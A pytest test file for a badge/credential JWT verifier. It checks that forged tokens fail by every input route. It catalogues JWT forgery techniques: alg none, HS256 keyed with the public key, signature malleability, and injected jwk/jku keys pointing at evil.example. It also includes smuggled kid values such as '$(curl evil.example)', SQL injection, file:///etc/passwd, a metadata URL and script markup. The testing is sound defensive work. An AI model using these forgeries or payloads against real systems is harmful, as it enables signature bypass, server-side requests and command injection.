"""Tokens that lie about how, by whom and over what they are signed, by every door (T1 to T5)."""

import base64
import gzip
import hashlib
import hmac
import json
import zlib

import pytest
from hostile_site import PUBLIC
from pdf_files import pdf
from plain_badge import OB3_CONTEXTS
from tokens import b64, secret_key, token, unb64

from keys.jwk import to_jwk
from ob3.baking import bake
from ob3.jws import credential_jwt

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'
MALLORY = secret_key("Ed25519", 7)
STRANGER = "Issuer not known to us"
EVIL = "https://evil.example/keys"


class Forge:
    """Tokens in a stranger's name: any header, any payload, any key."""

    def __init__(self, stranger):
        self.did, self.key, self.credential = stranger.did, stranger.key, stranger.badge()
        self.good = credential_jwt(self.credential, signer=self.key.signer())
        self.header = {"alg": "EdDSA", "kid": self.key.public_key.did_key_method}
        self.payload = json.loads(unb64(self.good.split(".")[1]))

    def token(self, header=None, payload=None, key=None, **more):
        whole = {**self.header, **more} if header is None else header
        present = {name: value for name, value in whole.items() if value is not None}
        return token(present, self.payload if payload is None else payload, key or self.key)

    def but(self, *left_out, **changes):
        """Give the good payload with changes."""
        kept = {name: value for name, value in self.payload.items() if name not in left_out}
        return {**kept, **changes}

    def signed_as(self, signature):
        """Give the good token with another signature."""
        return f"{self.good.rpartition('.')[0]}.{b64(signature)}"

    def hs256(self, secret, algorithm="HS256"):
        signing_input = f"{b64({**self.header, 'alg': algorithm})}.{b64(self.payload)}"
        return f"{signing_input}.{b64(hmac.digest(secret, signing_input.encode(), hashlib.sha256))}"

    def unsigned(self, algorithm, signature=""):
        return f"{b64({**self.header, 'alg': algorithm})}.{b64(self.payload)}.{signature}"

    @property
    def signature(self):
        return unb64(self.good.split(".")[2])


@pytest.fixture(scope="module")
def forge(stranger):
    return Forge(stranger)


def pem(key):
    der = bytes.fromhex("302a300506032b6570032100") + key.public_key.raw
    text = base64.encodebytes(der).decode()
    return f"-----BEGIN PUBLIC KEY-----\n{text}-----END PUBLIC KEY-----\n".encode()


HOW = {
    "alg none": lambda f: f.unsigned("none"),
    "alg None": lambda f: f.unsigned("None"),
    "alg none with the old signature": lambda f: f.unsigned("none", b64(f.signature)),
    "HS256 with the raw public key": lambda f: f.hs256(f.key.public_key.raw),
    "HS256 with the public key in PEM": lambda f: f.hs256(pem(f.key)),
    "HS256 with the DID": lambda f: f.hs256(f.did.encode()),
    "HS256 with nothing": lambda f: f.hs256(b""),
    "HMAC under the name EdDSA": lambda f: f.hs256(f.key.public_key.raw, "EdDSA"),
    "ES256 by an Ed25519 key": lambda f: f.token(alg="ES256"),
    "RS256 by an Ed25519 key": lambda f: f.token(alg="RS256"),
    "no algorithm": lambda f: f.token(alg=None),
    "two algorithms": lambda f: f.token(alg=["EdDSA", "none"]),
    "an algorithm twice": lambda f: token(json.dumps(f.header)[:-1] + ',"alg":"none"}', f.payload, f.key),
    "no signature": lambda f: f.signed_as(b""),
    "a signature of zeros": lambda f: f.signed_as(bytes(64)),
    "half a signature": lambda f: f.signed_as(f.signature[:32]),
    "a signature and more": lambda f: f.signed_as(f.signature + b"x"),
    "S plus L": lambda f: f.signed_as(s_plus_l(f.signature)),
    "another token's signature": lambda f: f.signed_as(unb64(f.token(payload=f.but("name")).split(".")[2])),
}
ORDER = 2**252 + 27742317777372353535851937790883648493


def s_plus_l(signature):
    """Give the other number that some readers of Ed25519 take for the same signature (THREATS P4)."""
    s = int.from_bytes(signature[32:], "little") + ORDER
    return signature[:32] + s.to_bytes(32, "little")


WHOM = {
    "the key of another": lambda f: f.token(key=MALLORY),
    "a key in the header": lambda f: f.token(kid=None, jwk=to_jwk(MALLORY.public_key), key=MALLORY),
    "a key in the header beside the kid": lambda f: f.token(jwk=to_jwk(MALLORY.public_key), key=MALLORY),
    "the issuer's key in the header, signed by another": lambda f: f.token(
        kid=None, jwk=to_jwk(f.key.public_key), key=MALLORY
    ),
    "the kid of another": lambda f: f.token(kid=MALLORY.public_key.did_key_method, key=MALLORY),
    "another key in the kid's fragment": lambda f: f.token(
        kid=f"{f.did}#{MALLORY.public_key.multikey}", key=MALLORY
    ),
    "a secret key in the header": lambda f: f.token(
        kid=None, jwk={**to_jwk(f.key.public_key), "d": b64(b"1" * 32)}
    ),
    "a shared secret in the header": lambda f: f.token(kid=None, jwk={"kty": "oct", "k": b64(b"1" * 32)}),
    "jku": lambda f: f.token(jku=EVIL),
    "jku alone": lambda f: f.token(kid=None, jku=EVIL, key=MALLORY),
    "x5u": lambda f: f.token(x5u=EVIL),
    "x5c": lambda f: f.token(x5c=["MIIB"]),
    "x5t": lambda f: f.token(x5t="AAAA"),
    "a kid elsewhere": lambda f: f.token(kid=EVIL, key=MALLORY),
    "a kid inside": lambda f: f.token(kid="https://169.254.169.254/latest/meta-data", key=MALLORY),
    "a kid by http": lambda f: f.token(kid="http://evil.example/keys", key=MALLORY),
    "a kid that is a file": lambda f: f.token(kid="file:///etc/passwd"),
    "a kid that is a path": lambda f: f.token(kid="../../../../dev/null", key=MALLORY),
    "a kid that asks a database": lambda f: f.token(kid="x' UNION SELECT 'key'; --", key=MALLORY),
    "a kid that calls a shell": lambda f: f.token(kid="$(curl evil.example)"),
    "a kid with a line": lambda f: f.token(kid=f"{f.did}#x\r\nX-Evil: 1"),
    "a kid with markup": lambda f: f.token(kid="did:key:<script>alert(1)</script>"),
    "a kid of another kind": lambda f: f.token(kid=["x", f.did]),
    "a very long kid": lambda f: f.token(kid=f"{f.did}#{'x' * 5_000}"),
    "no kid and no key": lambda f: f.token(kid=None),
    "did:web of evil": lambda f: f.token(kid="did:web:evil.example#1", key=MALLORY),
}
WHAT = {
    "crit": lambda f: f.token(crit=["exp"]),
    "crit without anything": lambda f: f.token(crit=[]),
    "b64 false": lambda f: f.token(crit=["b64"], b64=False),
    "b64 true": lambda f: f.token(b64=True),
    "zip": lambda f: f.token({**f.header, "zip": "DEF"}, zlib.compress(json.dumps(f.payload).encode())),
    "a packed payload": lambda f: f.token(payload=gzip.compress(json.dumps(f.payload).encode(), mtime=0)),
    "an access token": lambda f: f.token(typ="at+jwt"),
    "a presentation": lambda f: f.token(typ="vp+jwt"),
    "a proof of possession": lambda f: f.token(typ="openid4vci-proof+jwt"),
    "a typ of another kind": lambda f: f.token(typ=["JWT"]),
    "cty of a token in a token": lambda f: f.token({**f.header, "cty": "JWT"}, f.good),
    "a token in a token": lambda f: f.token(payload=f.good),
    "iss of another": lambda f: f.token(payload=f.but(iss="did:web:university.example")),
    "sub of another": lambda f: f.token(payload=f.but(sub="did:example:mallory")),
    "jti of another": lambda f: f.token(payload=f.but(jti="urn:uuid:1")),
    "nbf earlier": lambda f: f.token(payload=f.but(nbf=f.payload["nbf"] - 1)),
    "nbf as text": lambda f: f.token(payload=f.but(nbf=str(f.payload["nbf"]))),
    "exp as text": lambda f: f.token(payload=f.but(exp="never")),
    "an issuer who is not iss": lambda f: f.token(
        payload=f.but(issuer={"id": "did:web:university.example", "type": ["Profile"]})
    ),
    "vc beside the credential": lambda f: f.token(payload=f.but(vc=older(f))),
    "the credential beside vc": lambda f: f.token(payload={**claims(f), "vc": older(f), "type": ["x"]}),
    "a new credential in vc": lambda f: f.token(payload={**claims(f), "vc": f.credential}),
    "an old credential without vc": lambda f: f.token(payload={**claims(f), **older(f)}),
    "vc twice": lambda f: f.token(payload=json.dumps({**claims(f), "vc": older(f)})[:-1] + ',"vc":{}}'),
    "a claim twice": lambda f: f.token(payload=json.dumps(f.payload)[:-1] + ',"iss":"did:example:x"}'),
    "a name twice": lambda f: f.token(payload=json.dumps(f.payload)[:-1] + ',"name":"Doctor"}'),
    "words without meaning": lambda f: f.token(payload=f.but(grade="excellent")),
    "no credential": lambda f: f.token(payload=claims(f)),
    "an empty payload": lambda f: f.token(payload={}),
    "a list": lambda f: f.token(payload=[f.payload]),
    "detached": lambda f: ".".join([f.good.split(".")[0], "", f.good.split(".")[2]]),
    "one part": lambda f: f.good.split(".")[0],
    "two parts": lambda f: f.good.rpartition(".")[0],
    "four parts": lambda f: f"{f.good}.{f.good.split('.')[2]}",
    "two tokens": lambda f: f"{f.good}\n{f.good}",
    "an encrypted one": lambda f: "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkExMjhHQ00ifQ.a.b.c.d",
    "padding": lambda f: f"{f.good}==",
    "base64 of the other kind": lambda f: f.good[:-4] + "+/+/",
    "spare bits": lambda f: f.good[:-1] + chr(ord(f.good[-1]) + 1),
    "a changed word": lambda f: swapped(f, name="Doctor of Law"),
    "a changed learner": lambda f: swapped(f, sub="did:example:mallory"),
}
TOO_MUCH = {
    "100 levels": (lambda f: f.token(payload=b'{"a":' * 100 + b"1" + b"}" * 100), "depth"),
    "100,000 levels": (lambda f: f.token(payload=b'{"a":[' * 100_000), "depth"),
    "a header of 100 levels": (
        lambda f: token(b'{"jwk":' * 100 + b"1" + b"}" * 100, f.payload, f.key),
        "depth",
    ),
    "1,001 objects": (lambda f: f.token(payload=f.but(evidence=[{}] * 1_001)), "count"),
    "20,001 values": (lambda f: f.token(payload=f.but(evidence=[1] * 20_001)), "count"),
    "a header of 20 kB": (lambda f: f.token(kid="k" * 20_000), "size"),
    "a token of 1.1 MB": (lambda f: f.token(payload=f.but(name="x" * 800_000)), "size"),
}


def claims(forge):
    return {name: forge.payload[name] for name in ("iss", "sub", "jti", "nbf")}


def older(forge):
    document = {**forge.credential, "issuanceDate": forge.credential["validFrom"]}
    del document["validFrom"]
    return {**document, "@context": ["https://www.w3.org/2018/credentials/v1", OB3_CONTEXTS[1]]}


def swapped(forge, **changes):
    head, _, signature = forge.good.split(".")
    return f"{head}.{b64({**forge.payload, **changes})}.{signature}"


def never_good(site, text, *wrapped, words=("Not valid",)):
    """Send a token in by every door, and files around it; none may open, nor anybody be asked for a key."""
    site.outside.asked.clear()
    site.outside.names["evil.example"] = [PUBLIC]
    data = text.encode()
    answers = [site.upload(data, name="badge.jwt"), site.paste(text), site.open_address(data)]
    answers += [site.upload(one) for one in wrapped]
    for answer in answers:
        assert answer.status in (200, 422)
        assert answer.status == 422 or answer.word in words
        assert not {"signature: signature_fits", "signature: claims_missing"} & answer.codes
        assert "<script>alert" not in answer.text
    assert [url for url in site.outside.asked if "files.example" not in url] == []
    return answers


def envelope(text):
    return json.dumps(
        {
            "@context": "https://www.w3.org/ns/credentials/v2",
            "id": f"data:application/vc+jwt,{text}",
            "type": "EnvelopedVerifiableCredential",
        }
    ).encode()


def test_the_good_twin_is_read_by_every_door(site, forge):
    data = forge.good.encode()
    answers = [
        site.upload(data, name="badge.jwt"),
        site.upload(data + b"\r\n", name="badge.jws"),
        site.upload(bake(SVG, forge.good), name="badge.svg"),
        site.upload(pdf(("badge.jwt", data)), name="badge.pdf"),
        site.upload(f'"{forge.good}"'.encode()),
        site.upload(envelope(forge.good)),
        site.paste(forge.good),
        site.open_address(data),
    ]
    for answer in answers:
        assert (answer.status, answer.word) == (200, STRANGER)
        assert "signature: signature_fits" in answer.codes


@pytest.mark.parametrize(
    "changes", [{"typ": "JWT"}, {"typ": "vc+jwt"}, {"kid": None}], ids=["JWT", "vc+jwt", "jwk"]
)
def test_the_good_twins_in_other_forms_are_good(site, forge, changes):
    if "kid" in changes:
        changes = {**changes, "jwk": to_jwk(forge.key.public_key)}
    assert site.upload(forge.token(**changes).encode()).word == STRANGER
    assert site.upload(forge.token(payload={**claims(forge), "vc": older(forge)}).encode()).word == STRANGER


@pytest.mark.parametrize("name", HOW)
def test_a_token_that_lies_about_how_it_is_signed_is_never_good(site, forge, name):
    text = HOW[name](forge)
    never_good(site, text, pdf(("badge.jwt", text.encode())), f'"{text}"'.encode(), envelope(text))


@pytest.mark.parametrize("name", WHOM)
def test_a_token_that_lies_about_who_signed_it_is_never_good(site, forge, name):
    never_good(site, WHOM[name](forge))


@pytest.mark.parametrize("name", WHAT)
def test_a_token_that_lies_about_what_is_signed_is_never_good(site, forge, name):
    never_good(site, WHAT[name](forge))


@pytest.mark.parametrize("algorithm", ["PS256", "ES256K", "ES512", "Ed448", "unheard of"])
def test_an_honest_token_in_another_algorithm_is_neither_yes_nor_no(site, forge, algorithm):
    for answer in never_good(site, forge.token(alg=algorithm), words=("Could not be checked",)):
        assert "parse: unsupported_token" in answer.codes


def test_a_token_with_parts_kept_back_is_neither_yes_nor_no(site, forge):
    answer = site.upload(f"{forge.good}~WyJzYWx0IiwibmFtZSIsIngiXQ~".encode())
    assert (answer.word, "kind: unsupported_kind" in answer.codes) == ("Could not be checked", True)


@pytest.mark.parametrize("name", TOO_MUCH)
def test_a_token_beyond_a_limit_is_refused(site, forge, name):
    build, limit = TOO_MUCH[name]
    answer = site.upload(build(forge).encode(), name="badge.jwt")
    assert (answer.status, answer.word) == (200, "Refused")
    assert f"parse: limit_{limit}" in answer.codes


def test_what_a_token_shows_is_what_it_signs(site, forge):
    shown = site.upload(forge.good.encode()).text
    assert "Reading maps" in shown
    changed = site.upload(swapped(forge, name="Doctor of Law").encode()).text
    assert "Doctor of Law" not in changed
